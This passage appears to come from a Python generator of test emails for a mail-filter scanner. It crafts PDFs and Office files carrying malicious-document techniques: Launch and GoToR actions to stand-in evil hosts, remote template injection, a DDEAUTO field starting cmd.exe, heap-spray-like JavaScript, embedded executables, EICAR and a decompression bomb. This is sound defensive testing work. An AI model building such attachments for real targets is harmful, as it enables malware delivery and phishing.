    out += b"%d 0 obj\n" % xn + pdf_stream(rows, b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R%s"
                                           % (xn + 1, trailer)) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offs[xn]
    return bytes(out)


def pdf_doc(lines, catalog=b"", annots=(), extra=(), packed=False, contents=(4,)):
    """A one-page PDF: 1 catalog (+ catalog), 2 pages, 3 page (annots: object
    numbers), 4 its text, Flate-compressed, 5 a font, 6... the extra objects.
    packed: every object that is not a stream goes into an object stream."""
    text = b"BT /F1 12 Tf 72 750 Td 14 TL\n"
    for ln in lines:
        text += b"(" + ln.encode("latin-1") + b") Tj T*\n"
    text += b"ET\n"
    refs = lambda nums: b" ".join(b"%d 0 R" % k for k in nums)
    objs = [b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>"
            b" /Contents [" + refs(contents) + b"]" + (b" /Annots [" + refs(annots) + b"]" if annots else b"")
            + b" >>",
            pdf_stream(text),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"] + list(extra)
    pk = {i for i, o in enumerate(objs, 1) if b"stream\n" not in o} if packed else ()
    return pdf_build(objs, pk)


def pdf_link(rect_y, action):
    return (b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A " % (rect_y, rect_y + 20)
            + action + b" >>")


def pdf_str(s):
    """A PDF literal string for s (latin-1), escapes included."""
    return b"(" + s.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


INVOICE_LINES = ["Invoice 2024-0118", "Total: 118.00 EUR", "Thank you for your order."]

JS_EXPLOIT_LIKE = (b"var spray = unescape('%u0c0c%u0c0c');\n"
                   b"while (spray.length < 0x10000) spray += spray;\n"
                   b"var parts = new Array();\n"
                   b"for (var i = 0; i < 200; i++) parts[i] = spray + 'invoice';\n"
                   b"app.alert('Loading your invoice...');\n")

MSGBOX_VBS = b'MsgBox "Your invoice is ready", 0, "Invoice"\r\n'


def docs_pdfs():
    """name -> bytes of the PDFs of the docs cases and unit tests."""
    d = {}
    # A link annotation and its URI action, both inside a compressed object stream.
    d["uri_objstm.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
        pdf_link(700, b"7 0 R"),
        b"<< /Type /Action /S /URI /URI (https://malware.invalid/pdf/objstm-statement.exe) >>"])
    # The annotation compressed, its names #-escaped, its URI a hex string in another object.
    d["uri_flate_annot.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
        b"<< /Type /Annot /Subtype /L#69nk /Rect [72 700 300 720] /A << /S /U#52I /U#52I 7 0 R >> >>",
        b"<" + binascii.hexlify(b"https://phishing.test/pdf/verify-account").upper() + b">"])
    d["launch_unc.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), packed=True, extra=[
        pdf_link(700, b"<< /S /Launch /Win << /F " + pdf_str("\\\\fileshare.evil.test\\pub\\update.exe")
                 + b" /P (/silent) >> >>")])
    d["gotor_remote.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
        pdf_link(700, b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F "
                 b"(https://docs-share.evil.test/statement-2024.pdf) >> /D [0 /Fit] >>")])
    d["gotor_unc.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /OpenAction 6 0 R", extra=[
        b"<< /S /GoToR /F (//fileshare.evil.test/pub/statement.pdf) /D [0 /Fit] >>"])
    d["gotor_local.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
        pdf_link(700, b"<< /S /GoToR /F (terms-and-conditions.pdf) /D [0 /Fit] >>")])
    d["openaction_js.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /OpenAction 6 0 R", packed=True, extra=[
        b"<< /S /JavaScript /JS 7 0 R >>", pdf_stream(JS_EXPLOIT_LIKE)])
    # Document-level script (the Names tree), chained by /Next from a print action.
    d["names_js.pdf"] = pdf_doc(INVOICE_LINES, catalog=b" /Names << /JavaScript 6 0 R >>", extra=[
        b"<< /Names [(init) 7 0 R] >>",
        b"<< /S /JavaScript /JS (this.print\\(\\);) /Next 8 0 R >>",
        b"<< /S /JavaScript /JS (app.launchURL\\('https://phishing.test/pdf/js-redirect', true\\);) >>"])
    # The object stream's compressed bytes damaged: its objects cannot be read.
    good = d["uri_objstm.pdf"]
    at = good.index(b"stream\n", good.index(b"/Type /ObjStm")) + 7 + 12
    d["objstm_damaged.pdf"] = good[:at] + bytes(b ^ 0x5A for b in good[at:at + 24]) + good[at + 24:]
    # URI strings in every form a PDF may write them: escapes, octal, an escaped
    # line end, UTF-16 with a byte-order mark, a NUL byte, an indirect string.
    d["uri_escapes.pdf"] = pdf_doc(INVOICE_LINES, annots=(6, 7, 8, 9), extra=[
        pdf_link(700, b"<< /S /URI /URI (http://p.test/a\\(1\\)\\\\b\\101\\\nc) >>"),
        pdf_link(670, b"<< /S /URI /URI <FEFF0068007400740070003A002F002F0075002E0074002F> >>"),
        pdf_link(640, b"<< /S /URI /URI (http://p.test/\\000z) >>"),
        pdf_link(610, b"<< /S /URI /URI 10 0 R >>"),
        b"(http://p.test/indirect)"])
    d["click_js.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
        pdf_link(700, b"<< /S /JavaScript /JS (app.alert\\('Thank you'\\);) >>")])
    d["embedded_pe.pdf"] = pdf_doc(
        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(readme.txt) 6 0 R] >> >>",
        extra=[b"<< /Type /Filespec /F (readme.txt) /UF (readme.txt) /EF << /F 7 0 R >> >>",
               pdf_stream(PE, b" /Type /EmbeddedFile /Params << /Size %d >>" % len(PE))])
    # Behind a filter no reader decodes for an attachment (DCT): typed as it is.
    d["embedded_dct.pdf"] = pdf_doc(
        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(scan.jpg) 6 0 R] >> >>",
        extra=[b"<< /Type /Filespec /F (scan.jpg) /EF << /F 7 0 R >> >>",
               pdf_stream(PE, b" /Filter /DCTDecode /Type /EmbeddedFile", flate=False)])
    d["embedded_vbs.pdf"] = pdf_doc(INVOICE_LINES, annots=(6,), extra=[
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R >>",
        b"<< /Type /Filespec /UF (instructions.vbs) /EF << /F 8 0 R >> >>",
        pdf_stream(MSGBOX_VBS, b" /Type /EmbeddedFile")])
    d["embedded_csv.pdf"] = pdf_doc(
        INVOICE_LINES, catalog=b" /Names << /EmbeddedFiles << /Names [(items.csv) 6 0 R] >> >>",
        extra=[b"<< /Type /Filespec /F (items.csv) /EF << /F 7 0 R >> >>",
               pdf_stream(b"item;qty;price\nAlpine Trail Jacket;1;118.00\n", b" /Type /EmbeddedFile")])
    # What an ordinary invoice looks like today: object streams, a link to the
    # shop, a bookmark, and a script that opens the print dialog.
    d["invoice_print.pdf"] = pdf_doc(
        INVOICE_LINES, catalog=b" /OpenAction 6 0 R /Outlines 8 0 R /PageMode /UseOutlines",
        annots=(7,), packed=True, extra=[
            b"<< /S /JavaScript /JS (this.print\\({bUI: true, bSilent: false, bShrinkToFit: true}\\);) >>",
            pdf_link(700, b"<< /S /URI /URI (https://www.example.com/orders/2024-118) >>"),
            b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
            b"<< /Title (Invoice 2024-0118) /Parent 8 0 R /Dest [3 0 R /Fit] >>"])
    d["eicar_flate.pdf"] = pdf_doc(INVOICE_LINES, contents=(4, 6), extra=[pdf_stream(EICAR)])
    # Needs a password: an encryption dictionary whose /U no empty password matches.
    d["encrypted.pdf"] = pdf_doc(INVOICE_LINES) .replace(
        b"/Root 1 0 R >>", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <"
        + b"4f" * 32 + b"> /U <" + b"55" * 32 + b"> /P -3904 >> /ID [<" + b"01" * 16 + b"> <"
        + b"01" * 16 + b">] >>")
    d["broken.pdf"] = b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
    return d


def docs_bomb_pdf():
    """An object stream that inflates to 64 MiB: for the worker's memory limit."""
    co = zlib.compressobj(9)
    index = b"6 0 "
    body = co.compress(index + b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] >>\n")
    for _ in range(64):
        body += co.compress(b" " * (1 << 20))
    body += co.flush()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [6 0 R] >>",
            b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
            % (len(index), len(body)) + body + b"\nendstream"]
    out = bytearray(b"%PDF-1.5\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    rows = struct.pack(">BIH", 0, 0, 65535)
    for o in offs:
        rows += struct.pack(">BIH", 1, o, 0)
    rows += struct.pack(">BIH", 1, len(out), 0) + struct.pack(">BIH", 2, 4, 0)
    xoff = len(out)
    z = zlib.compress(rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\n"
            b"stream\n" % len(z) + z + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xoff)
    return bytes(out)


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(items):
    """items: (id, type, target, external)."""
    return (CT_HDR + '<Relationships xmlns="%s">' % RELS_NS + "".join(
        '<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' % (
            i, REL_T, t, target.replace("&", "&amp;"), ' TargetMode="External"' if ext else "")
        for i, t, target, ext in items) + "</Relationships>").encode()


def make_docx_rels(body, doc_rels=(), settings_rels=None):
    """A docx whose document has the relationships doc_rels and, with
    settings_rels, a settings part with relationships of its own."""
    ct = (CT_HDR + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
          'officedocument.wordprocessingml.document.main+xml"/>'
          + ('<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
             'officedocument.wordprocessingml.settings+xml"/>' if settings_rels is not None else '')
          + '</Types>')
    w = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
    doc = CT_HDR + '<w:document %s><w:body>%s</w:body></w:document>' % (w, body)
    members = [("[Content_Types].xml", ct.encode()),
               ("_rels/.rels", rels([("rId1", "officeDocument", "word/document.xml", False)])),
               ("word/document.xml", doc.encode())]
    drels = list(doc_rels)
    if settings_rels is not None:
        drels.append(("rId90", "settings", "settings.xml", False))
        members += [("word/settings.xml", (CT_HDR + '<w:settings %s><w:attachedTemplate r:id="rId1"/>'
                                           '</w:settings>' % w).encode()),
                    ("word/_rels/settings.xml.rels", rels(settings_rels))]
    if drels:
        members.append(("word/_rels/document.xml.rels", rels(drels)))
    return make_zip(members)


def w_para(t):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % t


def w_link(rid, t):
    return ('<w:p><w:hyperlink r:id="%s"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
            '<w:t>%s</w:t></w:r></w:hyperlink></w:p>' % (rid, t))


def make_odt(content_body):
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path='
                '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
               'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body>'
               '<office:text>%s</office:text></office:body></office:document-content>' % content_body)
    return make_zip([("mimetype", b"application/vnd.oasis.opendocument.text"),
                     ("META-INF/manifest.xml", manifest.encode()), ("content.xml", content.encode())],
                    deflate=True)


def docs_office():
    d = {}
    d["hyperlink_blocklisted.docx"] = make_docx_rels(
        w_para("Please confirm your account details:") +
        w_link("rId5", "Customer portal"),
        doc_rels=[("rId5", "hyperlink", "https://credential-harvest.example/office/login?user=mark", True)])
    d["remote_template.docx"] = make_docx_rels(
        w_para("Order 2024-118: delivery note"),
        settings_rels=[("rId1", "attachedTemplate", "http://templates.evil.test/x.dotm", True)])
    d["benign_link.docx"] = make_docx_rels(
        w_para("Our returns policy is online:") + w_link("rId5", "Returns policy"),
        doc_rels=[("rId5", "hyperlink", "https://www.example.com/help/returns", True)])
    d["oleobject_mhtml.docx"] = make_docx_rels(
        w_para("Quarterly figures"),
        doc_rels=[("rId7", "oleObject", "mhtml:http://ole.evil.test/x.html!x-usc:http://ole.evil.test/x.html",
                   True)])
    d["frame_unc.docx"] = make_docx_rels(
        w_para("Meeting notes"),
        doc_rels=[("rId8", "frame", "\\\\fileshare.evil.test\\pub\\frame.docx", True),
                  ("rId9", "image", "media/image1.png", False)])
    d["relative_external.docx"] = make_docx_rels(
        w_para("Budget, see the linked sheet"),
        doc_rels=[("rId8", "oleObject", "Budget%202024.xlsx", True)])
    # Word fields: an INCLUDEPICTURE split over runs (and padded), a HYPERLINK
    # field, a harmless PAGE field; DDEAUTO in a simple field.
    run = lambda inner: "<w:r>%s</w:r>" % inner
    fld = lambda kind: run('<w:fldChar w:fldCharType="%s"/>' % kind)
    instr = lambda t: run('<w:instrText xml:space="preserve">%s</w:instrText>' % t)
    d["fields.docx"] = make_docx_rels(
        "<w:p>" + fld("begin") + instr(" INCLUDEPICTURE " + " " * 6000 + '"http://track')
        + instr('er.evil.test/p.png" \\d ') + fld("separate") + run("<w:t>logo</w:t>") + fld("end")
        + "</w:p><w:p>" + fld("begin") + instr(' HYPERLINK "https://phishing.test/word-field" ')
        + fld("separate") + run("<w:t>portal</w:t>") + fld("end") + "</w:p><w:p>" + fld("begin")
        + instr(" PAGE ") + fld("separate") + run("<w:t>1</w:t>") + fld("end") + "</w:p>")
    d["dde.docx"] = make_docx_rels(
        "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; '>"
        + run("<w:t>Loading...</w:t>") + "</w:fldSimple></w:p>")
    d["link.odt"] = make_odt(
        '<text:p>Log in at <text:a xlink:type="simple" xlink:href="https://phishing.test/odt/login">'
        'our portal</text:a>.</text:p>'
        '<text:section text:name="S1"><text:section-source xlink:type="simple" '
        'xlink:href="http://sections.evil.test/part.odt"/></text:section>')
    d["bad_xml.docx"] = make_zip([
        ("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", b"<Relationships><Relationship Id="),
        ("word/document.xml", b"<w:document/>")])
    d["utf16_rels.docx"] = make_zip([
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", b"\xff\xfe" + rels([("rId1", "attachedTemplate", "https://templates.evil.test/u.dotm",
                                              True)]).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
         .encode("utf-16-le"))])
    return d


def docs_office_limits():
    d = {}
    d["many_members.docx"] = make_zip([("[Content_Types].xml", b"<Types/>")] +
                                      [("word/media/image%d.png" % i, make_png()) for i in range(40)])
    d["ratio.docx"] = make_zip([
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", rels([("rId1", "officeDocument", "word/document.xml", False)])[:-len(b"</Relationships>")]
         + b" " * (2 << 20) + b"</Relationships>")])
    return d


DOCS_PAYLOADS = {}
DOCS_PAYLOADS.update(docs_pdfs())
DOCS_PAYLOADS.update(docs_office())


def build_docs_cases():
    D = DOCS_PAYLOADS
    pdf = lambda name, fn: attach(fn, D[name], "application/pdf")
    docx = lambda name, fn: attach(fn, D[name],
                                   "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    removed = """
        verdict: rewrite
        removed: 2
        kept: 1"""
    mixed("docs_pdf_uri_objstm", "en", "Statement 2024-118", [text(T["en_invoice"]),
          pdf("uri_objstm.pdf", "Statement_2024_118.pdf")], True, removed + """
        # the link annotation and its URI action sit in a Flate-compressed object stream
        rule: url_in_attachment 2
        url: malicious malware.invalid/pdf/objstm-statement.exe""")
    mixed("docs_pdf_uri_flate_annot", "de", "Rechnung März", [text(T["de_invoice"]),
          pdf("uri_flate_annot.pdf", "Rechnung_Maerz.pdf")], False, removed + """
        # compressed annotation, #-escaped names, the URI a hex string in another object
        rule: url_in_attachment 2
        url: malicious phishing.test/pdf/verify-account""")
    mixed("docs_pdf_launch_unc", "fr", "Facture 2024-118", [text(T["fr_complaint"]),
          pdf("launch_unc.pdf", "Facture_2024_118.pdf")], True, removed + """
        # a Launch action that runs \\\\fileshare.evil.test\\pub\\update.exe
        finding: filetype 2
        rule: pdf_launch 2""")
    mixed("docs_pdf_gotor_remote", "es", "Factura pendiente", [text(T["es_invoice"]),
          pdf("gotor_remote.pdf", "Factura.pdf")], False, removed + """
        # GoToR to a PDF on a web server; the URL is recorded as a link of the PDF
        rule: pdf_remote_file 2
        url: unknown docs-share.evil.test/statement-2024.pdf""")
    mixed("docs_pdf_openaction_js", "pl", "Faktura", [text(T["pl_complaint"]),
          pdf("openaction_js.pdf", "Faktura_2024.pdf")], True, removed + """
        # /OpenAction JavaScript (a Flate stream) that does more than print
        rule: pdf_javascript 2""")
    mixed("docs_pdf_embedded_pe", "cs", "Faktura č. 2024/118", [text(T["cs_invoice"]),
          pdf("embedded_pe.pdf", "Faktura.pdf")], False, removed + """
        # an embedded file named readme.txt that is a PE program (typed by content)
        rule: embedded_executable 2""")
    mixed("docs_docx_hyperlink_blocklisted", "en", "Account details", [text(T["en_complaint"]),
          docx("hyperlink_blocklisted.docx", "Account_details.docx")], True, removed + """
        # an external hyperlink relationship to a blocklisted host
        rule: url_in_attachment 2
        url: malicious credential-harvest.example/office/login""")
    mixed("docs_docx_remote_template", "de", "Lieferschein", [text(T["de_delivery"]),
          docx("remote_template.docx", "Lieferschein.docx")], False, removed + """
        # settings.xml.rels: attachedTemplate http://templates.evil.test/x.dotm (remote template injection)
        rule: office_remote_content 2
        url: unknown templates.evil.test/x.dotm""")
    clean = """
        verdict: clean
        nofinding: virus
        nofinding: filetype
        nofinding: filename
        nofinding: url
        nofinding: structure
        nofinding: limit
        identical: yes"""
    mixed("clean_pdf_invoice_print", "pt", "Fatura de março", [text(T["pt_invoice"]),
          pdf("invoice_print.pdf", "Fatura_2024_118.pdf")], True, clean + """
        # object streams, a link to an ordinary shop, a bookmark, and print-on-open JavaScript
        url: unknown www.example.com/orders/2024-118""")
    mixed("clean_docx_hyperlink", "fr", "Politique de retour", [text(T["fr_complaint"]),
          docx("benign_link.docx", "Retours.docx")], False, clean + """
        url: unknown www.example.com/help/returns""")
    mixed("virus_pdf_flate_eicar", "en", "Invoice 2024-118", [text(T["en_invoice"]),
          pdf("eicar_flate.pdf", "Invoice_2024_118.pdf")], True, removed + """
        # EICAR in a Flate-compressed content stream: ClamAV's PDF parser inflates it
        finding: virus 2
        rule: virus 2""")
    mixed("docs_docx_dde", "es", "Pedido 4471", [text(T["es_invoice"]),
          docx("dde.docx", "Pedido_4471.docx")], True, removed + """
        # a DDEAUTO field that starts cmd.exe: a macro without a macro project
        rule: office_macro 2""")
# --------------------------------------------------------------------------
# ClamAV's layers (issues 10 and 12): what it unpacks is typed whatever holds
# it; archives nobody can open; programs inside documents; decoys
# --------------------------------------------------------------------------

def build_layer_cases():
    pdf = make_pdf(["Rechnung 2024-118", "Summe: 118,00 EUR"])
    tar = make_tar([("Rechnung.pdf", pdf), ("Rechnung.exe", PE)])
    removed = """
        verdict: rewrite
        finding: %s 2
        removed: 2
        kept: 1"""
    for name, fname, data, ctype, kind, note in [
        ("archive_exe_tar_xz", "Rechnung.tar.xz", xz_stream(tar), "application/x-xz", "filetype",
         "# xz: ClamAV opens it; the tar inside is 2/1, the PE 2/1/2"),
        ("archive_tar_zst", "Rechnung.tar.zst", zstd_frame(tar), "application/zstd", "filetype",
         "# zstd: ClamAV cannot open it, so nobody can check the PE inside: unreadable_archive"),
        ("archive_tar_lz4", "Rechnung.tar.lz4", lz4_frame(tar), "application/octet-stream", "filetype",
         "# lz4 frame: unreadable_archive by its magic"),
        ("archive_exe_lzip", "Rechnung.exe.lz", lzip_member(PE), "application/x-lzip", "filetype",
         "# lzip: unreadable_archive by its magic"),
        ("archive_zst_by_name", "Sicherung.tar.zst", b"\x00\x01" + bytes(range(256)) * 4,
         "application/octet-stream", "filetype",
         "# no known magic, but the name says zstd: an archive nobody could open"),
    ]:
        mixed(name, "de", fname, [text(T["de_delivery"]), attach(fname, data, ctype)], name.endswith("xz"),
              note + removed % kind + ("\n        rule: unreadable_archive 2" if "xz" not in name else
                                       "\n        rule: executable 2"))

    docx_ct = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    for name, crlf, fname, data, ctype, note in [
        ("embedded_exe_docx_package", True, "Rechnung.docx",
         make_docx_with("Rechnung März 2024", [
             ("word/embeddings/oleObject1.bin", make_doc_package("Rechnung.exe", PE))]), docx_ct,
         "# an OLE Package object (word/embeddings/oleObject1.bin) carrying a PE"),
        ("embedded_exe_docx_raw", False, "Angebot.docx",
         make_docx_with("Angebot 2024", [("word/embeddings/Angebot.exe", PE)]), docx_ct,
         "# a PE stored as it is under word/embeddings/"),
        ("embedded_exe_doc_package", True, "Rechnung.doc", make_doc_package("Rechnung.exe", PE),
         "application/msword", "# Word 97 with an embedded Package object (ObjectPool) carrying a PE"),
        ("embedded_js_doc_package", False, "Rechnung.doc",
         make_doc_package("Rechnung.js", b'var s = new ActiveXObject("WScript.Shell");\n'
                          b's.Run("cmd /c echo sluice-test");\n'), "application/msword",
         "# an embedded Package object named Rechnung.js: a script, known by the package's own name"),
        ("embedded_exe_pdf", True, "Rechnung.pdf", make_pdf_embedded(["Rechnung 2024-118"], "Rechnung.exe", PE),
         "application/pdf", "# a PDF /EmbeddedFile holding a PE"),
    ]:
        mixed(name, "de", fname, [text(T["de_invoice"]), attach(fname, data, ctype)], crlf, note + """
            verdict: rewrite
            rule: embedded_executable 2
            removed: 2
            kept: 1""")

    clean = CLEAN
    mixed("clean_docx_embedded_image", "fr", "Photos du colis", [
        text(T["fr_complaint"]),
        attach("Colis.docx", make_docx_with("Photos du colis", [("word/media/image1.png", make_png())]),
               docx_ct)], True, "# an image inside a .docx is what documents hold" + clean)
    mixed("clean_pdf_embedded_text", "en", "Invoice with notes", [
        text(T["en_invoice"]),
        attach("invoice.pdf", make_pdf_embedded(["Invoice 2024-0117"], "notes.txt",
                                                b"Delivery notes: leave at the door.\n"),
               "application/pdf")], False, "# a text file embedded in a PDF stays allowed" + clean)
    mixed("clean_tar_xz_pdfs", "cs", "Faktury", [
        text(T["cs_invoice"]),
        attach("faktury.tar.xz", xz_stream(make_tar([("faktura_01.pdf", make_pdf(["Faktura 01"])),
                                                     ("faktura_02.pdf", make_pdf(["Faktura 02"]))])),
               "application/x-xz")], False, "# an xz archive ClamAV opens, two PDFs inside" + clean)

    mixed("exe_in_attached_mbox", "de", "Belege", [
        text(T["de_delivery"]),
        attach("Belege.mbox", mbox_with("Belege.exe", PE), "application/octet-stream")], False, """
        # an attachment that is a mailbox whose message carries a PE: ClamAV decodes it
        verdict: rewrite|quarantine
        finding: filetype 2""")

    # A name only ClamAV's parse reads: a quoted Content-Type makes GMime drop
    # its parameters (and the name with them); readers show rechnung.js.
    js = b'var s = new ActiveXObject("WScript.Shell");\ns.Run("cmd /c echo sluice-test");\n'
    mixed("script_name_in_quoted_type", "de", "Rechnung", [
        text(T["de_invoice"]),
        E([("Content-Type", '"application/octet-stream"; name="rechnung.js"'),
           ("Content-Transfer-Encoding", "base64")], b64(js))], False, """
        # our parse loses the name; ClamAV's reads rechnung.js: a script either way
        verdict: rewrite|quarantine
        finding: filetype 2""")

    # A decoy: EICAR where only ClamAV's parse sees it (the preamble), and the
    # same EICAR visible in a part. The part's detection must not explain the
    # preamble's.
    ent = multipart("mixed", [text(T["en_invoice"]), attach("test.txt", EICAR + b"\n", cte="8bit")],
                    "=_decoy_preamble_0001",
                    preamble=b"This is a multi-part message in MIME format.\n" + EICAR + b"\n\n")
    case("virus_eicar_decoy_preamble", False, top("virus_eicar_decoy_preamble", nxt(), "en",
         "Invoice 2024-0117", ent), """
        # EICAR in the preamble and the same EICAR in part 2 (8bit): removing part 2
        # would deliver the preamble's, so the message is held
        verdict: quarantine
        rule: unexplained_detection
        finding: virus 2""")
    mixed("virus_eicar_8bit", "en", "Test file", [
        text(T["en_invoice"]), attach("test.txt", EICAR + b"\n", cte="8bit")], True, """
        # EICAR as it is (8bit): ClamAV matches it in the raw message too; the part
        # holds those bytes, so removing it is enough
        verdict: rewrite
        finding: virus 2
        nofinding: structure
        removed: 2
        kept: 1""")


def build_link_place_cases():
    """Links where a client makes them live beyond <a href> and text: header
    fields, format=flowed text, calendar invitations, SVG files, every HTML
    attribute that loads or navigates, relative and scheme-relative links,
    non-web schemes. Each bad case keeps a harmless PDF that must arrive
    byte for byte; the clean controls must arrive untouched."""
    def invoice():
        return attach("Invoice_2024_118.pdf", make_pdf(["Invoice 2024-0118", "Total: 118.00 EUR"]),
                      "application/pdf")

    def headed(name, idx, headers, entity):
        h = list(headers) + [("Date", DATES[idx % len(DATES)]),
                             ("Message-ID", "<%s.%04d@corpus.sluice.test>" % (name, idx)),
                             ("MIME-Version", "1.0")]
        return E(h + entity.headers, entity.body, entity.children, entity.boundary)

    def flowed(body, delsp):
        return E([("Content-Type", "text/plain; charset=utf-8; format=flowed%s"
                   % ("; delsp=yes" if delsp else "")),
                  ("Content-Transfer-Encoding", "8bit")], body.encode("utf-8"))

    # ---- format=flowed; delsp=yes: a link wrapped inside its host name -------
    mixed("url_flowed_split", "en", "Account check", [
        flowed("Hello,\n\nplease log in at https://phishing.te \nst/login?session=7731 to keep \n"
               "your account.\n\n> Earlier you wrote: see https://shop.exam \n> ple/orders \n> today\n\n"
               "-- \nCustomer Care\n", True),
        invoice()], True, """
        # RFC 3676: a reader joins "https://phishing.te" and "st/login" (delsp=yes drops the
        # blank before the soft break); the whole link is judged and disarmed
        verdict: rewrite
        finding: url 1
        rule: url_malicious 1
        url: malicious phishing.test/login?session=7731
        url: unknown shop.example/orders
        absent: https://phishing.te
        present: hxxps[:]//phishing[.]test/login?session=7731
        present: your account.
        kept: 2""")

    # ---- a phishing link in the Subject (RFC 2047) ------------------------------
    i = nxt()
    ent = multipart("mixed", [text(T["en_complaint"]), invoice()],
                    "=_sluice_url_header_subject_%04d" % i)
    case("url_header_subject", True, headed("url_header_subject", i, [
        ("From", SENDERS["en"][0]), ("To", SENDERS["en"][1]),
        ("Subject", rfc2047("Konto gesperrt \u2013 jetzt entsperren: https://phishing.test/unlock?id=42"))],
        ent), """
        # the Subject is shown (and linkified) by the client: rewritten with the link defanged
        verdict: rewrite
        finding: url
        rule: url_malicious
        url: malicious phishing.test/unlock?id=42
        absent: https://phishing.test/unlock
        present: hxxps[:]//phishing[.]test/unlock?id=42
        present: Konto gesperrt
        kept: 1
        kept: 2""")

    # ---- a phishing link in the From display name ------------------------------
    i = nxt()
    ent = multipart("mixed", [text(T["en_invoice"]), invoice()], "=_sluice_url_header_from_%04d" % i)
    case("url_header_from_name", False, headed("url_header_from_name", i, [
        ("From", rfc2047("PayPal Service https://credential-harvest.example/login") +
         " <service@paypal-notice.example>"),
        ("To", SENDERS["en"][1]), ("Subject", "Invoice 2024-118")], ent), """
        # the display name is shown as the sender: rewritten, the address kept
        verdict: rewrite
        finding: url
        url: malicious credential-harvest.example/login
        absent: https://credential-harvest.example/login
        present: hxxps[:]//credential-harvest[.]example/login
        present: <service@paypal-notice.example>
        present: Subject: Invoice 2024-118
        kept: 1
        kept: 2""")

    # ---- an .ics attachment with a malicious link ------------------------------
    def ics(desc, url, extra=""):
        lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//corpus.sluice.test//gen//EN",
                 "METHOD:REQUEST", "BEGIN:VEVENT", "UID:20240304T091500-118@corpus.sluice.test",
                 "DTSTAMP:20240304T081500Z", "DTSTART:20240311T090000Z", "DTEND:20240311T093000Z",
                 "SUMMARY:Quarterly review"]
        # fold at 60 octets as calendar programs do
        d = "DESCRIPTION:" + desc
        lines.append(d[:60])
        rest = d[60:]
        while rest:
            lines.append(" " + rest[:59])
            rest = rest[59:]
        lines += ["URL:" + url] + ([extra] if extra else []) + [
            "ORGANIZER;CN=Mark Ellison:mailto:mark.ellison@customer.example",
            "END:VEVENT", "END:VCALENDAR"]
        return ("\r\n".join(lines) + "\r\n").encode()

    bad_ics = ics("Please review the agenda before the call: "
                  "https://malware.invalid/agenda/q1-review.html\\, thanks.",
                  "https://malware.invalid/event/118")
    mixed("url_ics_attachment", "en", "Invitation: Quarterly review", [
        text(T["en_invoice"]),
